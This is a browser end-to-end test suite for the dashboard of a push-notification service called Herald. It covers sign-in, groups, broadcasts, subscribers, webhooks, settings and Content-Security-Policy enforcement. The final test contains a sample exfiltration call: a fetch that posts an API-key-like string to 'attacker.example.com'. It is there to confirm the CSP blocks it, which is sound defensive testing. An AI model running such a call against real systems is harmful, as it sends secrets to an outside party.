// The dashboard in a real browser, against a real Herald with its worker and
// the local push service: sign in with the API key, create a group, send a
// broadcast and watch its counts climb to the total, schedule one and cancel
// it, erase a subscriber, manage webhooks and the default icon, sign out.
// Every step is checked on the page and in Herald's own state.
//
// HERALD_SCREENSHOTS=1 also writes docs/screenshots/*.png at 1280 and 390 px
// (see screenshots.ts; never in CI, so a run does not rewrite them).
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Browser, BrowserContext, Page, Request } from 'playwright-core'
import { browserAvailable, launchBrowser, startHerald, startSite, type RunningHerald, type Site, signInWithApiKey } from '../support/browser.ts'
import { installFakePushManager } from './sdk-helpers.ts'
import { DESKTOP, PHONE, screenshot } from './screenshots.ts'
import { startPushService, type PushService } from '../support/push-service.ts'
import { subscribeBrowser, type Browser as PushBrowser } from '../support/delivery.ts'
import type { TestProject } from '../support/app.ts'

/** Each push takes this long at the push service, so the counts climb while the page watches. */
const PUSH_DELAY_MS = 700

/** A square PNG, as a file picked from disk. */
async function pngFile(name: string, background: string): Promise<{ name: string; mimeType: string; buffer: Buffer }> {
  const svgIcon = `<svg xmlns="http://www.w3.org/2000/svg" width="96" height="96"><rect width="96" height="96" rx="20" fill="${background}"/><text x="48" y="64" font-size="48" text-anchor="middle" fill="#fff" font-family="sans-serif" font-weight="bold">A</text></svg>`
  return { name, mimeType: 'image/png', buffer: await sharp(Buffer.from(svgIcon)).png().toBuffer() }
}

/** 'YYYY-MM-DDTHH:mm' in the browser's (and this process's) time zone, for <input type="datetime-local">. */
function localInput(ms: number): string {
  const d = new Date(ms)
  const pad = (n: number) => String(n).padStart(2, '0')
  return `${d.getFullYear()}-${pad(d.getMonth() + 1)}-${pad(d.getDate())}T${pad(d.getHours())}:${pad(d.getMinutes())}`
}

/** A link of the dashboard's main navigation. */
function nav(page: Page, name: string) {
  return page.getByRole('navigation', { name: 'Dashboard' }).getByRole('link', { name, exact: true })
}

describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
  let herald: RunningHerald
  let push: PushService
  let browser: Browser
  let context: BrowserContext
  let page: Page
  let project: TestProject
  /** What the page did that it must never do: errors, CSP violations, requests elsewhere. */
  const problems: string[] = []
  const requests: Request[] = []
  let groupId: string
  let members: PushBrowser[] = []
  let outsider: PushBrowser
  /** The two snippets as the settings page shows them. */
  let pasted = { page: '', worker: '' }
  let site: Site | undefined

  const api = async (method: 'GET' | 'POST', url: string, payload?: Record<string, unknown>) =>
    (await herald.t.app.inject({ method, url, headers: project.auth, payload })).json()
  const db = <T extends Record<string, unknown>>(sql: string, params: unknown[]) => herald.t.database.db.query<T>(sql, params).then((r) => r.rows)

  function watch(p: Page): void {
    p.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') problems.push(`console ${message.type()}: ${message.text()}`)
    })
    p.on('pageerror', (error) => problems.push(`page error: ${error.message}`))
    p.on('request', (request) => requests.push(request))
  }

  beforeAll(async () => {
    push = await startPushService({ delayMs: PUSH_DELAY_MS })
    // One subscriber per fan-out batch and one job at a time: the five pushes
    // go out one after another, and the page sees the counts climb.
    herald = await startHerald({ HERALD_FANOUT_BATCH_SIZE: '1', HERALD_WORKER_CONCURRENCY: '1' })
    project = await herald.t.project({ name: 'Acme Shop', plan: 'plus' })
    browser = await launchBrowser()
    context = await browser.newContext({ viewport: DESKTOP })
    page = await context.newPage()
    watch(page)
  })

  afterAll(async () => {
    await browser?.close()
    await site?.close()
    await herald?.close()
    await push?.close()
  })

  it('a wrong key is refused with a clear message, and nothing is stored', async () => {
    await page.goto(`${herald.url}/dashboard`)
    await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe('Sign in to Herald')
    await page.getByLabel('API key').fill(`hk_live_${'x'.repeat(32)}`)
    await page.getByRole('button', { name: 'Sign in' }).click()
    const alert = page.getByRole('alert')
    await alert.waitFor()
    expect(await alert.textContent()).toContain('This API key was not accepted')
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0)
    await expect.poll(() => page.getByRole('navigation', { name: 'Dashboard' }).isVisible()).toBe(false)
    await screenshot(page, 'sign-in-error')
  })

  it('signs in with the key, keeps it out of every URL, and shows the overview', async () => {
    // Subscribers before signing in: one active outside any group, one unsubscribed.
    outsider = await subscribeBrowser(herald.t, project, push)
    const gone = await subscribeBrowser(herald.t, project, push)
    await herald.t.app.inject({ method: 'POST', url: `/v1/unsubscribe?project=${project.id}`, payload: { endpoint: gone.endpoint } })

    await page.getByLabel('API key').fill(project.apiKey)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByRole('heading', { name: 'Overview', level: 1 }).waitFor()
    expect(await page.locator('#count-active .stat-value').textContent()).toBe('1')
    expect(await page.locator('#count-unsubscribed .stat-value').textContent()).toBe('1')
    expect(await page.locator('#count-expired .stat-value').textContent()).toBe('0')
    expect(await page.locator('#pushes-usage').textContent()).toContain('0 of 5,000,000')
    expect(await page.locator('#project-name').textContent()).toContain('Acme Shop')
    expect(page.url()).toBe(`${herald.url}/dashboard#/overview`)
    expect(await page.evaluate(() => sessionStorage.getItem('herald.apiKey'))).toBe(project.apiKey)
  })

  it('creates a group, then renames and describes it', async () => {
    await nav(page, 'Groups').click()
    await page.getByRole('heading', { name: 'Groups', level: 1 }).waitFor()
    await page.getByLabel('Name', { exact: true }).fill('Newsletter')
    await page.getByLabel('Description (optional)').fill('Weekly deals')
    await page.getByRole('button', { name: 'Create group' }).click()
    await page.getByText('Group “Newsletter” created.').waitFor()
    const groups = (await api('GET', '/v1/groups')).groups
    expect(groups).toEqual([expect.objectContaining({ name: 'Newsletter', description: 'Weekly deals', member_count: 0 })])
    groupId = groups[0].id

    await page.getByRole('button', { name: 'Edit' }).click()
    await page.getByLabel('New name for Newsletter').fill('VIP customers')
    await page.getByLabel('Description of Newsletter').fill('')
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByText('Group “VIP customers” saved.').waitFor()
    expect((await api('GET', '/v1/groups')).groups).toEqual([expect.objectContaining({ id: groupId, name: 'VIP customers', description: null })])

    // A name already taken is refused in words (409 group_name_taken), changing nothing.
    await page.getByLabel('Name', { exact: true }).fill('VIP customers')
    await page.getByRole('button', { name: 'Create group' }).click()
    const alert = page.getByRole('alert')
    await alert.waitFor()
    expect((await alert.textContent())?.length).toBeGreaterThan(10)
    expect((await api('GET', '/v1/groups')).groups).toHaveLength(1)

    // A second group, deleted again: the first press only asks.
    await page.getByLabel('Name', { exact: true }).fill('Temporary')
    await page.getByRole('button', { name: 'Create group' }).click()
    await page.getByText('Group “Temporary” created.').waitFor()
    const temporary = (await api('GET', '/v1/groups')).groups.find((g: { name: string }) => g.name === 'Temporary')
    const row = page.locator(`tr[data-group-id="${temporary.id}"]`)
    await row.getByRole('button', { name: 'Delete' }).click()
    expect((await api('GET', '/v1/groups')).groups).toHaveLength(2)
    await row.getByRole('button', { name: 'Yes, delete' }).click()
    await page.getByText('Group “Temporary” deleted.').waitFor()
    expect((await api('GET', '/v1/groups')).groups.map((g: { id: string }) => g.id)).toEqual([groupId])

    // Five browsers of the local push service join it, as the SDK's subscribe({ groupIds }) does.
    members = []
    for (let i = 0; i < 5; i++) members.push(await subscribeBrowser(herald.t, project, push, { group_ids: [groupId], external_id: `customer-${i}`, tags: { seats: i, plan: 'pro' } }))
    await page.reload()
    await page.getByRole('heading', { name: 'Groups', level: 1 }).waitFor()
    expect(await page.locator(`tr[data-group-id="${groupId}"] td.num`).textContent()).toBe('5')
    await screenshot(page, 'groups')
  })

  it('composes a broadcast to the group with a live preview, sends it, and watches delivered climb to the total', async () => {
    await nav(page, 'Compose').click()
    await page.getByRole('heading', { name: 'Compose', level: 1 }).waitFor()
    // Sent empty, the API's refusal is shown in words, field by field, and nothing is created.
    await page.getByRole('button', { name: 'Send' }).click()
    const refusal = page.locator('#compose-message [role=alert]')
    await refusal.waitFor()
    expect(await refusal.textContent()).toContain('notification.title')
    expect(await refusal.textContent()).toContain('notification.body')
    expect((await api('GET', '/v1/broadcasts')).broadcasts).toEqual([])

    await page.getByLabel('Title').fill('Spring sale')
    await page.getByLabel('Body').fill('Everything 20% off until Sunday.')
    await page.getByLabel('Link').fill('/sale')
    // An icon picked from disk: sent as a data URL, hosted by Herald under /icons.
    await page.getByLabel('…or upload an icon file').setInputFiles(await pngFile('acme.png', '#e4572e'))
    await page.getByLabel('Send to').selectOption('group')
    await page.getByLabel('Group', { exact: true }).selectOption(groupId)
    await page.getByLabel('Urgency').selectOption('high')
    await page.getByLabel('Topic (optional)').fill('spring-sale')
    await page.getByLabel('Time to live (seconds)').fill('3600')
    // The preview follows the form.
    expect(await page.locator('#preview .n-title').textContent()).toBe('Spring sale')
    expect(await page.locator('#preview .n-body').textContent()).toBe('Everything 20% off until Sunday.')
    await expect.poll(() => page.locator('#preview .n-icon').getAttribute('src')).toMatch(/^data:image\/png;base64,/)
    await screenshot(page, 'compose')

    push.reset()
    await page.getByRole('button', { name: 'Send' }).click()
    // The confirmation step (the dry run's audience and warnings) comes first: dashboard-compose.browser.test.ts covers it.
    await page.locator('#confirm-send').click()
    await page.waitForURL(/#\/broadcasts\/bdc_[0-9a-z]{26}$/)
    const broadcastId = page.url().split('/').pop()!
    await page.getByText('Broadcast sent. Counts update as it goes out.').waitFor()

    // Watch the page: the delivered count only ever climbs, passes through
    // values between 0 and 5, and reaches 5.
    const seen: number[] = []
    const start = Date.now()
    for (;;) {
      const text = await page.locator('[data-count="delivered"]').textContent()
      const value = Number(text)
      if (seen[seen.length - 1] !== value) seen.push(value)
      if (value === 5 && (await page.locator('#broadcast-live .badge').textContent()) === 'sent') break
      if (Date.now() - start > 30_000) throw new Error(`delivered stuck; seen ${seen.join(', ')}`)
      await page.waitForTimeout(100)
    }
    expect(seen).toEqual([...seen].sort((x, y) => x - y))
    expect(seen.some((v) => v > 0 && v < 5), `seen ${seen.join(', ')}`).toBe(true)
    expect(await page.locator('#broadcast-live .status-line').textContent()).toContain('5 of 5 pushes sent.')
    expect(await page.locator('[data-count="failed"]').textContent()).toBe('0')
    expect(await page.locator('#delivery-progress').getAttribute('value')).toBe('5')

    // Herald's own record, and what the push service really received (decrypted).
    const broadcast = await api('GET', `/v1/broadcasts/${broadcastId}`)
    const icon = broadcast.notification.icon as string
    expect(icon).toMatch(new RegExp(`^${herald.url}/icons/[0-9a-f]{64}\\.png$`))
    expect(broadcast).toMatchObject({
      status: 'sent', source: 'dashboard', audience: 5, delivered: 5, failed: 0, ttl: 3600, urgency: 'high', topic: 'spring-sale',
      target: { type: 'group', group_id: groupId },
      notification: { title: 'Spring sale', body: 'Everything 20% off until Sunday.', url: '/sale', icon, image: null },
    })
    expect(push.received).toHaveLength(5)
    for (const member of members) {
      const [received] = push.receivedFor(member.endpoint)
      expect(received.payload).toEqual({
        v: 1, project_id: project.id, broadcast_id: broadcastId,
        title: 'Spring sale', body: 'Everything 20% off until Sunday.', icon, url: '/sale',
      })
      expect(received.headers).toMatchObject({ urgency: 'high', topic: 'spring-sale' })
    }
    expect(push.receivedFor(outsider.endpoint)).toEqual([])

    // Two of the five click: the broadcast's page shows it on the next load.
    for (let i = 0; i < 2; i++) {
      await herald.t.app.inject({ method: 'POST', url: `/v1/events?project=${project.id}`, payload: { type: 'clicked', broadcast_id: broadcastId } })
    }
    await herald.t.app.inject({ method: 'POST', url: `/v1/events?project=${project.id}`, payload: { type: 'dismissed', broadcast_id: broadcastId } })
    await page.reload()
    await page.locator('[data-count="clicked"]').waitFor()
    expect(await page.locator('[data-count="clicked"]').textContent()).toBe('2')
    expect(await page.locator('[data-count="dismissed"]').textContent()).toBe('1')
    expect(await page.locator('[data-count="ctr"]').textContent()).toBe('40.0%')
    // The funnel (issue 25): four of the five report shown; numbers and rates in the table.
    for (let i = 0; i < 4; i++) {
      await herald.t.app.inject({ method: 'POST', url: `/v1/events?project=${project.id}`, payload: { type: 'shown', broadcast_id: broadcastId } })
    }
    await page.reload()
    const funnelRows = page.locator('#funnel-table tbody tr')
    await funnelRows.first().waitFor()
    const funnel = await funnelRows.evaluateAll((trs) => trs.map((tr) => [tr.querySelector('th')!.textContent, tr.querySelector('td.num')!.textContent]))
    expect(funnel).toEqual([
      ['Audience', '5'],
      ['Sent', '5'],
      ['Delivered', '5 100.0% of sent'],
      ['Shown', '4 80.0% of delivered'],
      ['Clicked', '2 40.0% of delivered, 50.0% of shown'],
      ['Dismissed', '1'],
    ])
    await screenshot(page, 'broadcast')
    // Readable at 390 px: the page does not scroll sideways, and the bars are drawn.
    await page.setViewportSize(PHONE)
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width)
    expect((await page.locator('#funnel-table .hbar-fill').first().boundingBox())!.width).toBeGreaterThan(10)
    await page.setViewportSize(DESKTOP)
  })

  it('schedules a broadcast and cancels it before it fires', async () => {
    await nav(page, 'Compose').click()
    await page.getByRole('heading', { name: 'Compose', level: 1 }).waitFor()
    const at = Date.now() + 2 * 24 * 60 * 60 * 1000
    await page.getByLabel('Title').fill('Weekend reminder')
    await page.getByLabel('Body').fill('The sale ends tonight.')
    await page.getByLabel('Schedule (optional)').fill(localInput(at))
    await page.getByRole('button', { name: 'Schedule' }).click()
    await page.locator('#confirm-send').click()
    await page.getByText('Broadcast scheduled.').waitFor()
    const broadcastId = page.url().split('/').pop()!
    expect(await page.locator('#broadcast-live .badge').textContent()).toBe('scheduled')
    const scheduled = await api('GET', `/v1/broadcasts/${broadcastId}`)
    expect(scheduled).toMatchObject({ status: 'scheduled', source: 'dashboard', target: { type: 'all' } })
    expect(Math.abs(scheduled.scheduled_at - at)).toBeLessThan(60_000)

    await page.getByRole('button', { name: 'Cancel broadcast' }).click()
    await page.getByRole('button', { name: 'Yes, cancel broadcast' }).click()
    await page.getByText('Broadcast canceled.').waitFor()
    await expect.poll(() => page.locator('#broadcast-live .badge').textContent()).toBe('canceled')
    expect((await api('GET', `/v1/broadcasts/${broadcastId}`)).status).toBe('canceled')
    expect(await page.getByRole('button', { name: 'Cancel broadcast' }).count()).toBe(0)
  })

  it('lists the broadcasts with their outcomes, click-through rate and a chart', async () => {
    await nav(page, 'Broadcasts').click()
    await page.getByRole('heading', { name: 'Broadcasts', level: 1 }).waitFor()
    const rows = page.locator('tbody tr[data-broadcast-id]')
    expect(await rows.count()).toBe(2)
    const sent = await rows.nth(1).locator('td').allTextContents()
    expect(sent).toEqual(['Spring sale', 'sent dashboard', 'group VIP customers', '5', '5', '0', '2', '1', '40.0%', expect.any(String)])
    expect(await rows.nth(0).locator('td').nth(1).textContent()).toContain('canceled')
    expect(await page.locator('svg.chart rect.bar-delivered').count()).toBe(14)
    expect(await page.locator('svg.chart desc').textContent()).toBe('5 delivered and 2 clicked in total.')
    await screenshot(page, 'broadcasts')
  })

  it('filters subscribers, shows one with its groups, and erases it', async () => {
    await nav(page, 'Subscribers').click()
    await page.getByRole('heading', { name: 'Subscribers', level: 1 }).waitFor()
    await expect.poll(() => page.locator('tr[data-subscriber-id]').count()).toBe(7)
    await page.getByLabel('Group').selectOption(groupId)
    await page.getByRole('button', { name: 'Filter' }).click()
    await expect.poll(() => page.locator('tr[data-subscriber-id]').count()).toBe(5)
    await page.getByLabel('Group').selectOption('')
    await page.getByLabel('Status').selectOption('unsubscribed')
    await page.getByRole('button', { name: 'Filter' }).click()
    await expect.poll(() => page.locator('tr[data-subscriber-id]').count()).toBe(1)
    await page.getByLabel('Status').selectOption('')
    await page.getByLabel('External id').fill('customer-3')
    await page.getByRole('button', { name: 'Filter' }).click()
    const target = members[3]
    const onlyTarget = () => page.locator('tr[data-subscriber-id]').evaluateAll((rows) => rows.map((row) => row.getAttribute('data-subscriber-id')))
    // The unsubscribed filter before also left one row: wait for this filter's row, not a count.
    await expect.poll(onlyTarget).toEqual([target.id])
    // A part of the external id searches; a tag filters by value.
    await page.getByLabel('External id').fill('MER-')
    await page.getByRole('button', { name: 'Filter' }).click()
    await expect.poll(() => page.locator('tr[data-subscriber-id]').count()).toBe(5)
    await page.getByLabel('External id').fill('')
    await page.getByLabel('Tag').fill('seats:3')
    await page.getByRole('button', { name: 'Filter' }).click()
    await expect.poll(onlyTarget).toEqual([target.id])
    await page.getByLabel('Tag').fill('')
    // Health (issue 23): one subscriber whose last pushes failed.
    await db("INSERT INTO subscriber_health (subscriber_id, project_id, consecutive_failures) SELECT id, project_id, 2 FROM subscribers WHERE id = $1 ON CONFLICT (subscriber_id) DO UPDATE SET consecutive_failures = 2", [members[0].id])
    await page.getByLabel('Health').selectOption('failing')
    await page.getByRole('button', { name: 'Filter' }).click()
    await expect.poll(() => page.locator('tr[data-subscriber-id]').evaluateAll((rows) => rows.map((row) => row.getAttribute('data-subscriber-id')))).toEqual([members[0].id])
    expect(await page.locator(`tr[data-subscriber-id="${members[0].id}"]`).textContent()).toContain('failing (2 in a row)')
    await db('UPDATE subscriber_health SET consecutive_failures = 0 WHERE subscriber_id = $1', [members[0].id])
    await page.getByLabel('Health').selectOption('')
    await page.getByRole('button', { name: 'Filter' }).click()
    await expect.poll(() => page.locator('tr[data-subscriber-id]').count()).toBe(7)
    await screenshot(page, 'subscribers')

    await page.getByRole('link', { name: target.id }).click()
    await page.getByRole('heading', { name: 'Subscriber', level: 1 }).waitFor()
    expect(await page.locator('#subscriber-groups').textContent()).toContain('VIP customers')
    expect(await page.locator('.details').textContent()).toContain('customer-3')
    expect(await page.locator('.details').textContent()).toContain('Failed pushes in a row0')
    expect(await page.locator('#subscriber-tags li').allTextContents()).toEqual(['plan: "pro"', 'seats: 3'])
    await screenshot(page, 'subscriber')
    await page.getByRole('button', { name: 'Erase subscriber' }).click()
    await page.getByRole('button', { name: 'Yes, erase subscriber' }).click()
    await page.getByText(`Subscriber ${target.id} erased.`).waitFor()
    expect(await page.locator(`tr[data-subscriber-id="${target.id}"]`).count()).toBe(0)
    expect(await db('SELECT id FROM subscribers WHERE id = $1', [target.id])).toEqual([])
    expect(await db('SELECT group_id FROM group_members WHERE subscriber_id = $1', [target.id])).toEqual([])
    expect((await api('GET', '/v1/subscribers/counts'))).toEqual({ active: 5, unsubscribed: 1, expired: 0 })
  })

  it('settings: adds a webhook showing its secret once, deletes it, sets the default icon, shows the snippet', async () => {
    await nav(page, 'Settings').click()
    await page.getByRole('heading', { name: 'Settings', level: 1 }).waitFor()

    // A refused URL is explained in words and adds nothing.
    await page.getByLabel('Endpoint URL').fill('not a url')
    await page.getByRole('button', { name: 'Add webhook' }).click()
    await page.locator('#webhook-message [role=alert]').waitFor()
    expect((await api('GET', '/v1/webhooks')).webhooks).toEqual([])

    await page.getByLabel('Endpoint URL').fill('https://hooks.acme.example/herald')
    await page.getByLabel('dismissed').uncheck()
    // shown (issue 25) is offered but opt-in: unticked unless chosen.
    expect(await page.locator('#add-webhook').getByLabel('shown', { exact: true }).isChecked()).toBe(false)
    await page.getByRole('button', { name: 'Add webhook' }).click()
    const secret = await page.getByLabel('Signing secret').inputValue()
    expect(secret).toMatch(/^whsec_/)
    const stored = await db<{ secret: string; events: string[] }>('SELECT secret, events FROM webhooks WHERE project_id = $1', [project.id])
    expect(stored).toHaveLength(1)
    expect(stored[0].secret).toBe(secret)
    expect([...stored[0].events].sort()).toEqual(['clicked', 'delivered', 'failed'])

    // The default icon through PATCH /v1/me: an HTTPS URL first, then a file Herald hosts.
    await page.getByLabel('Icon URL').fill('https://cdn.example.com/default-icon.png')
    await page.getByRole('button', { name: 'Save icon' }).click()
    await page.getByText('Default icon saved.').waitFor()
    expect((await api('GET', '/v1/me')).project.default_icon).toBe('https://cdn.example.com/default-icon.png')
    expect(await page.locator('#current-icon img').getAttribute('src')).toBe('https://cdn.example.com/default-icon.png')
    await page.getByLabel('…or upload a file').setInputFiles(await pngFile('default.png', '#1d4ed8'))
    await page.getByRole('button', { name: 'Save icon' }).click()
    const hosted = new RegExp(`^${herald.url}/icons/[0-9a-f]{64}\\.png$`)
    await expect.poll(async () => (await api('GET', '/v1/me')).project.default_icon).toMatch(hosted)
    await expect.poll(() => page.locator('#current-icon img').getAttribute('src')).toMatch(hosted)
    const defaultIcon = (await api('GET', '/v1/me')).project.default_icon
    await screenshot(page, 'settings')
    await expect.poll(() => page.locator('#current-icon img').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(96)
    // A bad one is refused in words, keeping the old one.
    await page.getByLabel('Icon URL').fill('http://insecure.example.com/icon.png')
    await page.getByRole('button', { name: 'Save icon' }).click()
    await page.locator('#icon-message [role=alert]').waitFor()
    expect(await page.locator('#icon-message').textContent()).toContain('default_icon')
    expect((await api('GET', '/v1/me')).project.default_icon).toBe(defaultIcon)

    // The expiry rules (issue 23): numbers turn them on, an empty field off.
    await page.getByLabel('Expire after this many failed pushes in a row').fill('5')
    await page.getByLabel('Expire after this many days of failing pushes with none accepted').fill('30')
    await page.getByRole('button', { name: 'Save expiry rules' }).click()
    await page.getByText('Expiry rules saved.').waitFor()
    expect((await api('GET', '/v1/me')).project).toMatchObject({ expire_after_failures: 5, expire_after_days_without_delivery: 30 })
    expect(await page.getByLabel('Expire after this many failed pushes in a row').inputValue()).toBe('5')
    await page.getByLabel('Expire after this many failed pushes in a row').fill('')
    await page.getByRole('button', { name: 'Save expiry rules' }).click()
    await expect.poll(async () => (await api('GET', '/v1/me')).project.expire_after_failures).toBeNull()

    // The snippet names this Herald and this project.
    const snippet = await page.locator('#snippet-page').textContent()
    expect(snippet).toContain(`<script src="${herald.url}/sdk/herald.js"></script>`)
    expect(snippet).toContain(`Herald.init({ project: '${project.id}' })`)
    expect(snippet).toContain('Herald.subscribe()')
    expect(await page.locator('#snippet-worker').textContent()).toBe(`importScripts('${herald.url}/sdk/sw.js')`)
    pasted = { page: (await page.locator('#snippet-page').textContent())!, worker: (await page.locator('#snippet-worker').textContent())! }

    // The webhook list after a reload no longer shows the secret; then delete it.
    await page.reload()
    await page.getByRole('heading', { name: 'Settings', level: 1 }).waitFor()
    expect(await page.content()).not.toContain(secret)
    await page.getByRole('button', { name: 'Delete' }).click()
    await page.getByRole('button', { name: 'Yes, delete' }).click()
    await page.getByText('Webhook deleted.').waitFor()
    expect((await api('GET', '/v1/webhooks')).webhooks).toEqual([])
  })

  it('the overview reflects the sends; on a phone the layout is one column', async () => {
    await nav(page, 'Overview').click()
    await page.getByRole('heading', { name: 'Overview', level: 1 }).waitFor()
    expect(await page.locator('#pushes-usage').textContent()).toContain('5 of 5,000,000')
    expect(await page.locator('#count-active .stat-value').textContent()).toBe('5')
    // Audience health: all five subscribed minutes ago and none failing.
    expect(await page.locator('#health-active .stat-value').textContent()).toBe('5')
    expect(await page.locator('#health-dormant .stat-value').textContent()).toBe('0')
    expect(await page.locator('#health-failing .stat-value').textContent()).toBe('0')
    await screenshot(page, 'overview')

    const phone = await browser.newContext({ viewport: PHONE, deviceScaleFactor: 2, isMobile: true, hasTouch: true })
    const small = await phone.newPage()
    watch(small)
    await signInWithApiKey(small, herald.url, project.apiKey)
    // Nothing wider than the screen: no sideways scrolling of the page.
    expect(await small.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width)
    const navBox = await small.getByRole('navigation', { name: 'Dashboard' }).boundingBox()
    const mainBox = await small.locator('main').boundingBox()
    expect(mainBox!.y).toBeGreaterThanOrEqual(navBox!.y + navBox!.height - 1)
    await nav(small, 'Compose').click()
    await small.getByRole('heading', { name: 'Compose', level: 1 }).waitFor()
    expect(await small.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width)
    await phone.close()
  })

  it('the snippets from settings, pasted into a site, let a visitor subscribe, who then counts in the dashboard', async () => {
    site = await startSite({ '/index.html': `<!doctype html><title>Acme</title><h1>Acme</h1>\n${pasted.page}`, '/herald-sw.js': `${pasted.worker}\n` })
    const visitorContext = await browser.newContext()
    await visitorContext.grantPermissions(['notifications'], { origin: site.url })
    const visitor = await visitorContext.newPage()
    const errors: string[] = []
    visitor.on('pageerror', (error) => errors.push(error.message))
    // Headless Chromium cannot reach a real push service: PushManager hands out a local push service subscription.
    const subscription = push.createSubscription({ applicationServerKey: project.vapidPublic })
    await visitor.addInitScript(installFakePushManager, [subscription])
    await visitor.goto(site.url)
    await visitor.getByRole('button', { name: 'Get notifications' }).click()
    await expect.poll(async () => (await db('SELECT status FROM subscribers WHERE endpoint = $1', [subscription.endpoint])), { timeout: 15_000 }).toEqual([{ status: 'active' }])
    expect(errors).toEqual([])
    await visitorContext.close()

    await nav(page, 'Overview').click()
    await page.reload()
    await page.getByRole('heading', { name: 'Overview', level: 1 }).waitFor()
    expect(await page.locator('#count-active .stat-value').textContent()).toBe('6')
  })

  it('is usable from the keyboard: a skip link first, and every navigation puts focus on the page heading', async () => {
    await page.reload()
    await page.getByRole('heading', { name: 'Broadcasts', level: 1 }).or(page.getByRole('heading', { name: 'Overview', level: 1 })).waitFor()
    const focusedHeading = () => page.evaluate(() => (document.activeElement?.tagName === 'H1' ? document.activeElement.textContent : null))
    expect(await focusedHeading()).toBe('Overview')
    // The skip link is the first thing Tab reaches.
    const firstTabStop = await page.evaluate(() => {
      const candidates = [...document.querySelectorAll<HTMLElement>('a[href], button, input, select, textarea, [tabindex]')]
      return candidates.find((el) => el.tabIndex >= 0 && !el.closest('[hidden]'))?.textContent
    })
    expect(firstTabStop).toBe('Skip to content')
    await page.locator('#skip-link').focus()
    await page.keyboard.press('Enter')
    expect(await focusedHeading()).toBe('Overview')
    await nav(page, 'Groups').focus()
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: 'Groups', level: 1 }).waitFor()
    await expect.poll(focusedHeading).toBe('Groups')
    expect(await nav(page, 'Groups').getAttribute('aria-current')).toBe('page')
  })

  it('signing out forgets the key', async () => {
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.getByRole('heading', { name: 'Sign in to Herald' }).waitFor()
    expect(await page.evaluate(() => sessionStorage.getItem('herald.apiKey'))).toBeNull()
    await page.reload()
    await page.getByRole('heading', { name: 'Sign in to Herald' }).waitFor()
    expect(await page.getByRole('navigation', { name: 'Dashboard' }).isVisible()).toBe(false)
  })

  it('never put the key in a URL, talked only to Herald, and logged no error or CSP violation', () => {
    expect(requests.length).toBeGreaterThan(20)
    for (const request of requests) {
      expect(request.url(), request.url()).not.toContain(project.apiKey)
      expect(new URL(request.url()).origin === herald.url || /^https:\/\/cdn\.example\.com\//.test(request.url()), request.url()).toBe(true)
    }
    const bearer = requests.filter((r) => r.url().startsWith(`${herald.url}/v1/`))
    expect(bearer.length).toBeGreaterThan(10)
    // cdn.example.com does not resolve here: those image loads fail, and that is all that may.
    const unexpected = problems.filter((p) => !/Failed to load resource: net::ERR_NAME_NOT_RESOLVED|cdn\.example\.com/.test(p) && !/status of 4\d\d/.test(p))
    expect(unexpected).toEqual([])
  })
  // Last: the violations it provokes are logged to the console on purpose.
  it('enforces its Content-Security-Policy: an injected inline script does not run, and no other origin can be reached', async () => {
    await page.goto(`${herald.url}/dashboard`)
    await page.getByRole('heading', { name: 'Sign in to Herald' }).waitFor()
    const inline = await page.evaluate(() => new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => resolve(`blocked by ${event.effectiveDirective}`), { once: true })
      const script = document.createElement('script')
      script.textContent = 'window.injected = true'
      document.body.append(script)
      setTimeout(() => resolve((window as unknown as { injected?: boolean }).injected ? 'ran' : 'nothing happened'), 2000)
    }))
    expect(inline).toBe('blocked by script-src-elem')
    // The violation event tells a CSP refusal apart from a name that does not resolve.
    const outside = await page.evaluate(async () => {
      const violation = new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
      })
      const outcome = await fetch('https://attacker.example.com/collect', { method: 'POST', body: 'hk_live_x' }).then(() => 'sent', () => 'failed')
      return { outcome, directive: await Promise.race([violation, new Promise((resolve) => setTimeout(() => resolve('none'), 1000))]) }
    })
    expect(outside).toEqual({ outcome: 'failed', directive: 'connect-src' })
  })
})
